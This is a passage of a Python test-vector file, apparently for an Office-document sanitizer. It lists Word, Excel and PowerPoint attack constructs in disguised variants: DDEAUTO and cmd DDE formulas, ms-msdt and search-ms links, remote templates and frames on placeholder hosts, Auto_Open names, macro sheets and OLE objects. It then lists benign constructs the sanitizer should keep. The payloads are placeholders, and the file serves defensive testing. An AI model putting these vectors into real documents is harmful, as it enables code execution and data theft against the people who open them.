"""vectors: what an attacker puts into files, each in three disguises, as changes to files that are made in packages.py.

Each is (name, base, [three changes]); `base` makes a file, a change alters it. For packages a change is a function of a Package;
for other files it gives the bytes and the name. MARK stands in what is dangerous: it may be in no output.
"""
import io
import struct
import zipfile

from packages import A, OFFICE, STRICT, TYPE, W, X, bmp, bmp_with_profile, chunk, emf, excel, gif, jpeg, png, slides, tiff, webp, wmf, word

MARK = 'mark-of-danger'
MC = 'http://schemas.openxmlformats.org/markup-compatibility/2006'
MICROSOFT = 'http://schemas.microsoft.com/office'
DRAWING = 'http://schemas.openxmlformats.org/drawingml/2006'
CUSTOM_UI = f'<customUI xmlns="{MICROSOFT}/2006/01/customui" onLoad="{MARK}"><ribbon/></customUI>'


def in_body(text):
    return lambda made: made.edit('word/document.xml', '<w:sectPr ?/>|<w:sectPr></w:sectPr>', text + '<w:sectPr/>')


def run(inner):
    return f'<w:p><w:r>{inner}</w:r></w:p>'


def in_sheet(text, where='</worksheet>'):
    return lambda made: made.edit('xl/worksheets/sheet1.xml', where, text + where)


def in_row(text):
    return lambda made: made.edit('xl/worksheets/sheet1.xml', '</row>', text + '</row>')


def in_slide(text):
    return lambda made: made.edit('ppt/slides/slide1.xml', '</p:spTree>', text + '</p:spTree>')


def part(source, kind, name, text, content_type, where=None):
    """A part with its relationship."""
    def change(made):
        made.add_part(name, text, content_type)
        made.add_way(source, 'rIdDanger', kind, where or '/' + name)
    return change


def both(*changes):
    def change(made):
        for one in changes:
            one(made)
    return change


def way(source, kind, target, mode='External'):
    return lambda made: made.add_way(source, 'rIdDanger', kind, target, mode)


def settings(text):
    return lambda made: made.edit('word/settings.xml', '</w:settings>', text + '</w:settings>')


def branch(text, space, prefix):
    return (f'<mc:AlternateContent xmlns:mc="{MC}"><mc:Choice xmlns:{prefix}="{space}" Requires="{prefix}">{text}</mc:Choice>'
            f'<mc:Fallback>{text}</mc:Fallback></mc:AlternateContent>')


def field(*pieces, end=True):
    """Runs of an instruction, a piece each; what is no plain text stands as it is."""
    runs = ''.join(piece if piece.startswith('<') else f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>' for piece in pieces)
    mark = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
    return f'<w:p>{mark.format("begin")}{runs}{mark.format("separate")}<w:r><w:t>結果</w:t></w:r>{mark.format("end") if end else ""}</w:p>'


SHOWS = ''.join(('<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>QUOTE 1</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>',
                 '<w:r><w:t>{}</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'))


def references(text):
    return ''.join(f'&#x{ord(letter):x};' for letter in text)


# ---- Office ----

DDE = f'DDEAUTO c:\\\\cmd.exe {MARK}'
WORD_ROWS = [
    ('mail-with-a-file', [both(in_body(f'<w:p><w:hyperlink xmlns:r="{OFFICE}" r:id="rIdDanger"><w:r><w:t>x</w:t></w:r></w:hyperlink></w:p>'),
                               way('word/document.xml', 'hyperlink', f'mailto:a@b.example?attach=c:/{MARK}')),
                          in_body(field(f' HYPERLINK "mailto:a@b.example?subject=x&amp;Attachment=//{MARK}/a" ')),
                          in_body(run(f'<w:pict><v:rect xmlns:v="urn:schemas-microsoft-com:vml" href="mailto:a@b?ATTACH={MARK}"/></w:pict>'))]),
    ('places-elsewhere', [in_body(f'<w:p><w:hyperlink w:anchor="file://{MARK}/a"><w:r><w:t>x</w:t></w:r></w:hyperlink></w:p>'),
                          in_body(field(f' HYPERLINK \\l "\\\\{MARK}\\a" ')),
                          in_body(f'<w:p><w:hyperlink w:anchor="[{MARK}]a"><w:r><w:t>x</w:t></w:r></w:hyperlink></w:p>')]),
    ('custom-ui', [part('', f'{MICROSOFT}/2006/relationships/ui/extensibility', 'customUI/customUI.xml', CUSTOM_UI, None),
                   part('', f'{MICROSOFT}/2007/relationships/ui/extensibility', 'word/x.xml', CUSTOM_UI.replace('2006/01', '2009/07'), 'application/xml'),
                   in_body(CUSTOM_UI.replace('customUI', 'm:customUI').replace('xmlns=', 'xmlns:m=').replace('<ribbon/>', ''))]),
    ('frames', [both(way('word/webSettings.xml', 'frame', f'http://{MARK}.example/'),
                     lambda made: made.edit('word/webSettings.xml', '<w:optimizeForBrowser ?/>', '<w:frameset><w:frame><w:sourceFileName xmlns:r="' + OFFICE
                                            + '" r:id="rIdDanger"/></w:frame></w:frameset>')),
                lambda made: made.edit('word/webSettings.xml', '<w:optimizeForBrowser ?/>', f'<z:frameset xmlns:z="{W}"><z:frame><z:name z:val="{MARK}"/></z:frame></z:frameset>'),
                lambda made: made.edit('word/webSettings.xml', '<w:optimizeForBrowser ?/>',
                                       branch(f'<w:frameset><w:frame><w:longDesc w:val="{MARK}"/></w:frame></w:frameset>', MICROSOFT + '/word/2010/wordml', 'w14'))]),
    ('web-extensions', [part('', f'{MICROSOFT}/2011/relationships/webextensiontaskpanes', 'word/webextensions/taskpanes.xml',
                             f'<wetp:taskpanes xmlns:wetp="{MICROSOFT}/webextensions/taskpanes/2010/11"><wetp:taskpane visibility="1" id="{MARK}"/></wetp:taskpanes>',
                             'application/vnd.ms-office.webextensiontaskpanes+xml'),
                        part('word/document.xml', f'{MICROSOFT}/2011/relationships/webextension', 'word/media/w.xml',
                             f'<we:webextension xmlns:we="{MICROSOFT}/webextensions/webextension/2010/11" id="{MARK}"/>', 'application/vnd.ms-office.webextension+xml'),
                        in_body(f'<x:webextensionref xmlns:x="{MICROSOFT}/webextensions/webextension/2010/11" id="{MARK}"/>')]),
    ('data-mashup', [part('word/document.xml', 'customXml', 'customXml/item1.xml', f'<DataMashup xmlns="http://schemas.microsoft.com/DataMashup">{MARK}</DataMashup>', 'application/xml'),
                     part('', STRICT + '/customXml', 'word/header9.xml', f'<d:DataMashup xmlns:d="http://schemas.microsoft.com/DataMashup">{MARK}</d:DataMashup>',
                          TYPE + 'customXmlProperties+xml'),
                     in_body(f'<DataMashup xmlns="http://schemas.microsoft.com/DataMashup">{MARK}</DataMashup>')]),
    ('dde-field', [in_body(field(' D', 'DE', f'AUTO c:\\\\cmd.exe {MARK}')),
                   in_body(field(references(DDE))),
                   in_body(f'<w:p><w:fldSimple w:instr="{references(DDE)}"><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>')]),
    ('fields', [in_body(field(f' includepicture &quot;http://{MARK}.example/&quot; \\d ')),
                in_body(field('<w:r><w:fldChar w:fldCharType="begin"/></w:r>', 'QUOTE 68 68 69', '<w:r><w:fldChar w:fldCharType="end"/></w:r>', f' {MARK} x')),
                in_body(field('<w:r><w:t xml:space="preserve"> DDE </w:t></w:r>', f'{MARK} x', end=True))]),
    ('fields-that-fields-make', [in_body(field(before, SHOWS.format(shown))) for before, shown in (
        ('\xA0 ', f'DDEAUTO c:\\{MARK} y'), ('\u3000 ', f'DDEAUTO c:\\{MARK} y'), ('\xA0HYPERLINK ', f'file://{MARK}/x'), ('\u3000HYPERLINK ', f'file://{MARK}/x'))]),
    ('fields-of-changes', [in_body(field('<w:ins w:id="7" w:author="a"><w:r><w:instrText>PAGE </w:instrText></w:r></w:ins>', f'DDE {MARK} x')),
                           in_body(field('<w:del w:id="7" w:author="a"><w:r><w:delInstrText>DDE </w:delInstrText></w:r></w:del>', f'{MARK} x')),
                           in_body(field(f'HYPERLINK &quot;\\\\\\\\{MARK}\\\\share&quot;'))]),
    ('type-disguise', [lambda made: made.add_part('word/media/image1.png', MARK, 'application/vnd.ms-office.vbaProject'),
                       both(lambda made: made.parts.update({'word/media/image1.png': MARK.encode()})),
                       both(part('word/document.xml', 'image', 'word/media/x.jpg', f'MZ{MARK}', 'image/jpeg'))]),
    ('foreign-content', [both(part('word/document.xml', 'aFChunk', 'word/a.html', f'<html>{MARK}</html>', 'text/html'),
                              in_body(f'<w:altChunk xmlns:r="{OFFICE}" r:id="rIdDanger"/>')),
                         both(part('word/document.xml', STRICT + '/aFChunk', 'word/a.xml', MARK, 'application/rtf'), in_body(f'<w:altChunk xmlns:r="{STRICT}" r:id="rIdDanger"/>')),
                         in_body(branch(f'<w:altChunk xmlns:r="{OFFICE}" r:id="{MARK}"/>', MICROSOFT + '/word/2010/wordml', 'w14'))]),
    ('objects', [both(part('word/document.xml', 'oleObject', 'word/embeddings/o.bin', MARK, TYPE + 'oleObject'),
                      in_body(run(f'<w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:r="{OFFICE}" Type="Embed" ProgID="Package" r:id="rIdDanger"/></w:object>'))),
                 both(way('word/document.xml', 'oleObject', f'mhtml:http://{MARK}.example/!x'),
                      in_body(run(f'<w:object><q:OLEObject xmlns:q="urn:schemas-microsoft-com:office:office" xmlns:r="{OFFICE}" Type="Link" UpdateMode="Always" r:id="rIdDanger"/></w:object>'))),
                 in_body(run(f'<w:control xmlns:r="{OFFICE}" w:name="{MARK}" r:id="rId2"/>'))]),
    ('mail-merge', [settings(f'<w:mailMerge><w:query w:val="{MARK}"/></w:mailMerge>'),
                    both(settings(f'<w:attachedTemplate xmlns:r="{OFFICE}" r:id="rIdDanger"/>'), way('word/settings.xml', 'attachedTemplate', f'http://{MARK}.example/t.dotm')),
                    settings(f'<k:docVars xmlns:k="{W}"><k:docVar k:name="a" k:val="{MARK}"/></k:docVars>')]),
    ('links', [both(way('word/document.xml', 'hyperlink', f'javascript:{MARK}'),
                    in_body(f'<w:p><w:hyperlink xmlns:r="{OFFICE}" r:id="rIdDanger"><w:r><w:t>x</w:t></w:r></w:hyperlink></w:p>')),
               way('word/document.xml', 'hyperlink', f'file://{MARK}/x'),
               way('word/document.xml', STRICT + '/hyperlink', f'search-ms:{MARK}')]),
    ('linked-pictures', [both(way('word/document.xml', 'image', f'http://{MARK}.example/a.png'), lambda made: made.edit('word/document.xml', 'r:embed=', 'r:link="rIdDanger" r:embed=')),
                         in_body(run(f'<w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata src="http://{MARK}.example/a.png"/></v:shape></w:pict>')),
                         in_body(run(f'<w:pict><v:rect xmlns:v="urn:schemas-microsoft-com:vml" style="behavior:url(http://{MARK}.example/)"/></w:pict>'))]),
    ('declarations', [lambda made: made.parts.update({'word/settings.xml': f'<!DOCTYPE x [<!ENTITY a "{MARK}">]>'.encode() + made.parts['word/settings.xml'].split(b'?>')[-1]}),
                      lambda made: made.parts.update({'word/settings.xml': f'<?xml-stylesheet href="{MARK}"?>'.encode() + made.parts['word/settings.xml'].split(b'?>')[-1]}),
                      in_body(f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{MARK}"/>')]),
    ('left-behind', [lambda made: made.add_part('word/vbaProject.bin', MARK, 'application/vnd.ms-office.vbaProject'),
                     lambda made: made.add_part('unknown.xml', f'<x>{MARK}</x>', 'application/xml'),
                     part('word/document.xml', 'http://example.com/own', 'word/own.xml', f'<x>{MARK}</x>', TYPE + 'theme+xml')]),
    ('metafiles', [part('word/document.xml', 'image', 'word/media/a.emf', emf((70, struct.pack('<I', 16) + b'GDIC' + MARK.encode()[:12])), 'image/x-emf'),
                   part('word/document.xml', 'image', 'word/media/a.emf', emf((106, struct.pack('<II', 1, 16) + MARK.encode()[:12] + bytes(4))), 'image/x-emf'),
                   part('word/document.xml', 'image', 'word/media/a.wmf', wmf((0x0626, struct.pack('<HH', 15, 14) + MARK.encode())), 'image/x-wmf')]),
    ('bitmap-profiles', [part('word/document.xml', 'image', 'word/media/a.bmp', bmp_with_profile(b'LINK', f'\\\\{MARK}\\p\0'.encode()), 'image/bmp'),
                         part('word/document.xml', 'image', 'word/media/a.bmp', bmp_with_profile(b'MBED', MARK.encode()), 'image/bmp'),
                         part('word/document.xml', 'image', 'word/media/a.bmp', bmp(tail=MARK.encode()), 'image/bmp')]),
    ('links-that-are-fetched', [
        *[both(way('word/document.xml', 'hyperlink', f'http://{MARK}.example/a.png'),
               in_body(run(f'<w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" xmlns:r="{OFFICE}">{inner}</v:shape></w:pict>')))
          for inner in ('<v:imagedata r:id="rIdDanger"/>', '<v:fill type="frame" r:id="rIdDanger"/>', '<v:stroke filltype="tile" r:id="rIdDanger"/>')],
        both(way('word/document.xml', STRICT + '/hyperlink', f'http://{MARK}.example/a.png'), lambda made: made.edit('word/document.xml', 'r:embed="[^"]*"', 'r:embed="rIdDanger"')),
        both(way('word/document.xml', 'hyperlink', f'http://{MARK}.example/'), in_body('<w:sectPr><w:headerReference xmlns:r="' + OFFICE + '" w:type="default" r:id="rIdDanger"/></w:sectPr>')),
        both(in_body(run(f'<w:drawing><wp:inline xmlns:wp="{DRAWING}/wordprocessingDrawing"><wp:extent cx="9525" cy="9525"/><wp:docPr id="2" name="x"/><a:graphic xmlns:a="{A}">'
                         f'<a:graphicData uri="{DRAWING}/chart"><c:chart xmlns:c="{DRAWING}/chart" xmlns:r="{OFFICE}" r:id="rIdDanger"/></a:graphicData></a:graphic></wp:inline></w:drawing>')),
             part('word/document.xml', 'chart', 'word/charts/c.xml', f'<c:chartSpace xmlns:c="{DRAWING}/chart" xmlns:r="{OFFICE}"><c:chart><c:plotArea/></c:chart>'
                  '<c:externalData r:id="r1"/></c:chartSpace>', TYPE + 'drawingml.chart+xml'),
             lambda made: made.add_way('word/charts/c.xml', 'r1', 'hyperlink', f'http://{MARK}.example/b.xlsx', 'External'))]),
]

EXTERNAL_WAYS = ['attachedTemplate', 'oleObject', 'frame', 'subDocument', 'image', 'audio', 'video', 'externalLink', 'externalLinkPath', 'aFChunk', 'mailMergeSource',
                 'mailMergeHeaderSource', 'transform', 'attachedSchema', 'slideUpdateUrl', 'customXml', 'package', 'control', 'font', 'styles', 'settings', 'theme', 'header',
                 'comments', 'officeDocument']
WORD_ROWS += [(f'external-{kind}', [way('word/document.xml', kind, f'http://{MARK}.example/a'), way('word/document.xml', f'{STRICT}/{kind}', f'\\\\{MARK}\\a'),
                                    way('word/document.xml', f'{STRICT}/{kind}'.upper(), f'file:///{MARK}')]) for kind in EXTERNAL_WAYS]


def formula(text):
    return lambda made: made.edit('xl/worksheets/sheet1.xml', r'SUM\(B1:C1\)', text)


def name(attributes, text):
    return lambda made: made.edit('xl/workbook.xml', '</definedNames>', f'<definedName {attributes}>{text}</definedName></definedNames>')


EXCEL_ROWS = [
    ('functions-handed-over', [in_row(f'<c r="D1"><f>_xlfn.MAP("http://{MARK}/",_xleta.WEBSERVICE)</f><v>7</v></c>'),
                               in_row(f'<c r="D1"><f>_xlfn.MAP("{MARK}",_XLETA.<![CDATA[_xlfn.IMAGE]]>)</f><v>7</v></c>'),
                               lambda made: made.edit('xl/workbook.xml', '>集計!', f'>_xlfn.BYROW("{MARK}",_xleta.HYPERLINK)+集計!')]),
    ('places-elsewhere', [in_sheet(f'<hyperlinks><hyperlink ref="A1" location="{place}"/></hyperlinks>')
                          for place in (f'file://{MARK}/a', f'&apos;[{MARK}.xlsx]a&apos;!A1', f'\\\\{MARK}\\a')]),
    ('calls', [formula(f'WEBSERVICE(&quot;http://{MARK}.example/&quot;)'), formula(references(f'_xlfn.IMAGE("http://{MARK}.example/")')),
               formula(f'IF(1,<![CDATA[CALL("{MARK}","x","J")]]>,2)')]),
    ('dde', [formula(f"cmd|'/c {MARK}'!A0"), formula(references(f"cmd|'/c {MARK}'!A0")), formula(f"SUM(1)+<![CDATA[MSEXCEL|'{MARK}']]>!x")]),
    ('other-books', [formula('[1]集計!A1'), formula(f"'\\\\{MARK}\\[b.xlsx]集計'!A1"), name('name="b"', f"'[{MARK}.xlsx]x'!A1")]),
    ('paths-of-many-words', [formula(path + '!A1') for path in (f'\\{MARK}\\share\\book-2.xls', f'\\dir\\my {MARK}.xls', f'..\\a\\b+{MARK}.xls', f'\\dir/{MARK}.xls')]),
    ('paths-that-are-called', [formula(f'_xlpm.\\\\srv\\x(&quot;{MARK}&quot;)')]),
    ('running-names', [name('name="_xlnm.Auto_Open"', '集計!$A$1'), name('name="auto&#x200B;_OPENx" hidden="1"', '集計!$A$1'), name('name="f" function="1" vbProcedure="1"', '集計!$A$1')]),
    ('connections', [part('xl/workbook.xml', 'connections', 'xl/connections.xml', f'<connections xmlns="{X}"><connection id="1" name="{MARK}"/></connections>',
                          TYPE + 'spreadsheetml.connections+xml'),
                     part('xl/workbook.xml', STRICT + '/externalLink', 'xl/externalLinks/e.xml', f'<externalLink xmlns="{X}"><ddeLink ddeService="cmd" ddeTopic="{MARK}"/></externalLink>',
                          TYPE + 'spreadsheetml.externalLink+xml'),
                     in_sheet(f'<extLst><ext uri="{{{MARK}}}"><q:connection xmlns:q="{MICROSOFT}/spreadsheetml/2010/11/main"/></ext></extLst>')]),
    ('macro-sheets', [part('xl/workbook.xml', f'{MICROSOFT}/2006/relationships/xlMacrosheet', 'xl/macrosheets/s.xml',
                           f'<xm:macrosheet xmlns:xm="{MICROSOFT}/excel/2006/main">{MARK}</xm:macrosheet>', 'application/vnd.ms-excel.macrosheet+xml'),
                      part('xl/workbook.xml', 'dialogsheet', 'xl/dialogsheets/s.xml', f'<dialogsheet xmlns="{X}"><!--{MARK}--></dialogsheet>', TYPE + 'spreadsheetml.dialogsheet+xml'),
                      both(part('xl/workbook.xml', 'worksheet', 'xl/worksheets/s.xml', f'<xm:macrosheet xmlns:xm="{MICROSOFT}/excel/2006/main">{MARK}</xm:macrosheet>',
                                TYPE + 'spreadsheetml.worksheet+xml'),
                           lambda made: made.edit('xl/workbook.xml', '</sheets>', '<sheet name="x" sheetId="9" r:id="rIdDanger"/></sheets>'))]),
    ('buttons', [both(in_sheet('<legacyDrawing r:id="rIdDanger"/>'), part('xl/worksheets/sheet1.xml', 'vmlDrawing', 'xl/drawings/v.vml',
                      '<xml xmlns:v="urn:schemas-microsoft-com:vml"><v:shape><x:ClientData xmlns:x="urn:schemas-microsoft-com:office:excel" ObjectType="Button">'
                      f'<x:FmlaMacro>{MARK}</x:FmlaMacro></x:ClientData></v:shape></xml>', TYPE + 'vmlDrawing')),
                 both(in_sheet('<drawing r:id="rIdDanger"/>'), part('xl/worksheets/sheet1.xml', 'drawing', 'xl/drawings/d.xml',
                      '<d:wsDr xmlns:d="http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing"><d:absoluteAnchor><d:pos x="0" y="0"/><d:ext cx="9" cy="9"/>'
                      f'<d:sp macro="{MARK}" textlink=""/><d:clientData/></d:absoluteAnchor></d:wsDr>', TYPE + 'drawing+xml')),
                 in_sheet(f'<controls><control shapeId="1" name="{MARK}"/></controls>')]),
    ('links-that-are-fetched', [both(way('xl/worksheets/sheet1.xml', 'hyperlink', f'http://{MARK}.example/a.png'), in_sheet(f'<{name} r:id="rIdDanger"/>'))
                                for name in ('picture', 'drawing', 'legacyDrawing', 'legacyDrawingHF')]),
    ('places-that-are-fetched', [both(way('xl/worksheets/sheet1.xml', 'hyperlink', target, 'Internal'), in_sheet('<picture r:id="rIdDanger"/>'))
                                 for target in (f'#{MARK}', f'#http://{MARK}/')]),
    ('links-of-cells', [both(way('xl/worksheets/sheet1.xml', 'hyperlink', f'ms-msdt:{MARK}'), in_sheet('<hyperlinks><hyperlink ref="A1" r:id="rIdDanger"/></hyperlinks>')),
                        in_sheet(f'<hyperlinks><hyperlink ref="A1" location="\\\\{MARK}\\x"/></hyperlinks>'),
                        in_sheet(f'<webPublishItems count="1"><webPublishItem id="1" divId="x" sourceType="sheet" destinationFile="{MARK}"/></webPublishItems>')]),
]
CLICK = '<p:sp><p:nvSpPr><p:cNvPr id="9" name="x">{}</p:cNvPr><p:cNvSpPr/><p:nvPr/></p:nvSpPr><p:spPr/></p:sp>'
SLIDE_ROWS = [
    ('actions', [in_slide(CLICK.format(f'<a:hlinkClick r:id="" action="ppaction://macro?name={MARK}"/>')), in_slide(CLICK.format(f'<a:hlinkHover r:id="" action="ppaction://program?{MARK}"/>')),
                 in_slide(CLICK.format(f'<z:hlinkClick xmlns:z="{A}" r:id="" action="{references("ppaction://ole?verb=0&" + MARK)}"/>'))]),
    ('objects', [in_slide(f'<p:graphicFrame><p:nvGraphicFramePr><p:cNvPr id="9" name="x"/><p:cNvGraphicFramePr/><p:nvPr/></p:nvGraphicFramePr><p:xfrm><a:off x="0" y="0"/><a:ext cx="1" cy="1"/></p:xfrm>'
                          f'<a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/presentationml/2006/ole"><p:oleObj name="{MARK}" progId="Package"><p:embed/></p:oleObj>'
                          '</a:graphicData></a:graphic></p:graphicFrame>'),
                 part('ppt/slides/slide1.xml', 'oleObject', 'ppt/embeddings/o.bin', MARK, TYPE + 'oleObject'),
                 in_slide(f'<p:contentPart r:id="{MARK}"/>')]),
    ('media', [both(way('ppt/slides/slide1.xml', 'video', f'http://{MARK}.example/v'), in_slide(CLICK.format('').replace('<p:nvPr/>', '<p:nvPr><a:videoFile r:link="rIdDanger"/></p:nvPr>'))),
               part('ppt/slides/slide1.xml', f'{MICROSOFT}/2007/relationships/media', 'ppt/media/m.mp4', MARK, 'video/mp4'),
               in_slide(CLICK.format(f'<a:hlinkClick r:id=""><a:snd r:embed="" name="{MARK}"/></a:hlinkClick>'))]),
    ('commands', [lambda made: made.edit('ppt/slides/slide1.xml', '</p:sld>', f'<p:timing><p:tnLst><p:cmd type="verb" cmd="{MARK}"><p:cBhvr><p:cTn id="1"/><p:tgtEl><p:sldTgt/></p:tgtEl></p:cBhvr></p:cmd>'
                                         '</p:tnLst></p:timing></p:sld>'),
                  part('ppt/slides/slide1.xml', 'tags', 'ppt/tags/t.xml', f'<t:tagLst xmlns:t="http://schemas.openxmlformats.org/presentationml/2006/main"><t:tag name="{MARK}" val=""/></t:tagLst>',
                       TYPE + 'presentationml.tags+xml'),
                  lambda made: made.edit('ppt/slides/slide1.xml', '</p:sld>', f'<p:custDataLst><p:tags r:id="{MARK}"/></p:custDataLst></p:sld>')]),
]

# What people have in their files and keep: name, base, change, and what of it stands in the output, in which part.
HASH = 'p0fU//mRz5T+ZZk/1g=='

SHAPE_OF_SHEET = (f'<d:wsDr xmlns:d="http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing" xmlns:a="{A}" xmlns:r="{OFFICE}"><d:absoluteAnchor><d:pos x="0" y="0"/>'
                  '<d:ext cx="9" cy="9"/><d:sp macro="" textlink=""><d:nvSpPr><d:cNvPr id="2" name="x"><a:hlinkClick r:id="rId1"/></d:cNvPr><d:cNvSpPr/></d:nvSpPr><d:spPr/></d:sp>'
                  '<d:clientData/></d:absoluteAnchor></d:wsDr>')


def chart_of_book(update):
    """A chart in a text, its numbers in a workbook inside."""
    def change(made):
        in_body(run(f'<w:drawing><wp:inline xmlns:wp="{DRAWING}/wordprocessingDrawing"><wp:extent cx="9525" cy="9525"/><wp:docPr id="2" name="x"/><a:graphic xmlns:a="{A}">'
                    f'<a:graphicData uri="{DRAWING}/chart"><c:chart xmlns:c="{DRAWING}/chart" xmlns:r="{OFFICE}" r:id="rIdDanger"/></a:graphicData></a:graphic></wp:inline></w:drawing>'))(made)
        part('word/document.xml', 'chart', 'word/charts/c.xml', f'<c:chartSpace xmlns:c="{DRAWING}/chart" xmlns:r="{OFFICE}"><c:chart><c:plotArea/></c:chart>'
             f'<c:externalData r:id="r1"><c:autoUpdate val="{update}"/></c:externalData></c:chartSpace>', TYPE + 'drawingml.chart+xml')(made)
        made.add_part('word/embeddings/b.xlsx', excel().pack(), TYPE + 'spreadsheetml.sheet')
        made.add_way('word/charts/c.xml', 'r1', 'package', '../embeddings/b.xlsx')
    return change


RICH = MICROSOFT + '/spreadsheetml'
GOOD = [
    ('a hash with two bars, Word', word, 'docx', settings(f'<w:documentProtection w:edit="readOnly" w:enforcement="1" w:cryptAlgorithmSid="4" w:hash="{HASH}" w:salt="{HASH}"/>'),
     'word/settings.xml', HASH),
    ('a hash with two bars, Excel', excel, 'xlsx', in_sheet(f'<sheetProtection algorithmName="SHA-512" hashValue="{HASH}" saltValue="{HASH}" spinCount="100000" sheet="1"/>'),
     'xl/worksheets/sheet1.xml', HASH),
    ('a hash with two bars, PowerPoint', slides, 'pptx',
     lambda made: made.edit('ppt/presentation.xml', '</p:presentation>', f'<p:modifyVerifier algorithmName="SHA-512" hashValue="{HASH}" saltValue="{HASH}" spinValue="100000"/></p:presentation>'),
     'ppt/presentation.xml', HASH),
    ('a salt that is none, Excel', excel, 'xlsx', in_sheet(f'<sheetProtection algorithmName="SHA-512" hashValue="{HASH}" saltValue="a=b" spinCount="100000" sheet="1"/>'),
     'xl/worksheets/sheet1.xml', f'hashValue="{HASH}"'),
    ('a salt that is none, PowerPoint', slides, 'pptx',
     lambda made: made.edit('ppt/presentation.xml', '</p:presentation>', '<p:modifyVerifier algorithmName="SHA-512" hashValue="====" saltValue="%" spinValue="100000"/></p:presentation>'),
     'ppt/presentation.xml', 'spinValue='),
    ('a chart that updates itself from its workbook', word, 'docx', chart_of_book('1'), 'word/charts/c.xml', '<c:externalData r:id="r1"'),
    ('a chart that does not update itself', word, 'docx', chart_of_book('0'), 'word/charts/c.xml', 'val="0"'),
    ('what LibreOffice notes in its workbooks', excel, 'xlsx',
     lambda made: made.edit('xl/workbook.xml', '</workbook>', '<extLst><ext xmlns:loext="http://schemas.libreoffice.org/" uri="{7626C862-2A13-11E5-B345-FEFF819CDC9F}">'
                            '<loext:extCalcPr stringRefSyntax="CalcA1"/></ext></extLst></workbook>'), 'xl/workbook.xml', 'extCalcPr'),
    ('a link from a shape to a cell', excel, 'xlsx',
     both(in_sheet('<drawing r:id="rIdDrawing"/>'), lambda made: made.add_way('xl/worksheets/sheet1.xml', 'rIdDrawing', 'drawing', '../drawings/d.xml'),
          lambda made: made.add_part('xl/drawings/d.xml', SHAPE_OF_SHEET, TYPE + 'drawing+xml'), lambda made: made.add_way('xl/drawings/d.xml', 'rId1', 'hyperlink', '#集計!A1')),
     'xl/drawings/_rels/d.xml.rels', '"#集計!A1"'),
    ('a shape that says it showed an object', word, 'docx', in_body(run('<w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" o:ole="t" style="width:9pt"/></w:pict>')),
     'word/document.xml', 'o:ole="t"'),
    ('a lettering in a font called Script', word, 'docx',
     in_body(run('<w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" style="width:9pt"><v:textpath style="font-family:&quot;Segoe Script&quot;,Curlz MT" string="題"/></v:shape></w:pict>')),
     'word/document.xml', 'Segoe Script'),
    ('a picture of the file by way of a link', word, 'docx', lambda made: made.edit('word/document.xml', 'r:embed=', 'r:link="rId2" r:embed='), 'word/document.xml', 'r:link="rId2"'),
    ('an extension of whoever has this GUID', excel, 'xlsx',
     lambda made: made.edit('xl/workbook.xml', '</workbook>', f'<extLst><ext xmlns:x14="{MICROSOFT}/spreadsheetml/2009/9/main" uri="{{0123abcd-0000-4000-8000-00000000000F}}">'
                            '<x14:workbookPr defaultImageDpi="32767"/></ext></extLst></workbook>'), 'xl/workbook.xml', '0123abcd'),
    *[(f'a {word_of_shape} in a sheet', excel, 'xlsx', both(in_sheet('<legacyDrawing r:id="rIdDanger"/>'), part('xl/worksheets/sheet1.xml', 'vmlDrawing', 'xl/drawings/v.vml',
       '<xml xmlns:v="urn:schemas-microsoft-com:vml"><v:shape><x:ClientData xmlns:x="urn:schemas-microsoft-com:office:excel" '
       f'ObjectType="{word_of_shape}"/></v:shape></xml>', TYPE + 'vmlDrawing')), 'xl/drawings/v.vml', word_of_shape) for word_of_shape in ('LineA', 'RectA')],
    ('a break that ends twice', excel, 'xlsx', both(in_sheet('<legacyDrawing r:id="rIdDanger"/>'), part('xl/worksheets/sheet1.xml', 'vmlDrawing', 'xl/drawings/v.vml',
     '<xml xmlns:v="urn:schemas-microsoft-com:vml"><v:shape><v:textbox><div>一<br/></br>二</div></v:textbox></v:shape></xml>', TYPE + 'vmlDrawing')), 'xl/drawings/v.vml', '一<br/>二<'),
    ('a name with a backslash, and a sheet in quotes', excel, 'xlsx', in_row("<c r=\"D1\"><f>\\率*'集計'!A1</f><v>7</v></c>"), 'xl/worksheets/sheet1.xml', "\\率*'集計'!A1"),
    ('a field in the condition of another', word, 'docx', in_body(field(' IF ', SHOWS.format('一つ'), ' = 1 2 3')), 'word/document.xml', '>一つ<'),
    ('a name with a key of its own', excel, 'xlsx', lambda made: made.edit('xl/workbook.xml', 'definedName name="合計"', 'definedName name="合計" shortcutKey="a"'), 'xl/workbook.xml', '>集計!$A$1<'),
    ('a sheet with a bar in its name', excel, 'xlsx', both(lambda made: made.edit('xl/workbook.xml', 'name="集計"', 'name="a|b"'), lambda made: made.edit('xl/workbook.xml', '集計!', '集計'),
                                                          in_row('<c r="D1"><f>\'a|b\'!A1</f><v>7</v></c>')), 'xl/worksheets/sheet1.xml', '<c r="D1"><v>7</v></c>'),
    ('a link from a shape to a sheet with a blank in its name', excel, 'xlsx',
     both(in_sheet('<drawing r:id="rIdDrawing"/>'), lambda made: made.add_way('xl/worksheets/sheet1.xml', 'rIdDrawing', 'drawing', '../drawings/d.xml'),
          lambda made: made.add_part('xl/drawings/d.xml', SHAPE_OF_SHEET, TYPE + 'drawing+xml'), lambda made: made.add_way('xl/drawings/d.xml', 'rId1', 'hyperlink', "#'集計 2'!A1")),
     'xl/drawings/_rels/d.xml.rels', "#&apos;集計 2&apos;!A1"),
    ('a jump to a place in a slide', slides, 'pptx',
     both(in_slide(CLICK.format('<a:hlinkClick r:id="rIdJump" action="ppaction://hlinksldjump"/>')), lambda made: made.add_way('ppt/slides/slide1.xml', 'rIdJump', 'slide', 'slide1.xml#説明会')),
     'ppt/slides/_rels/slide1.xml.rels', 'slide1.xml#説明会'),
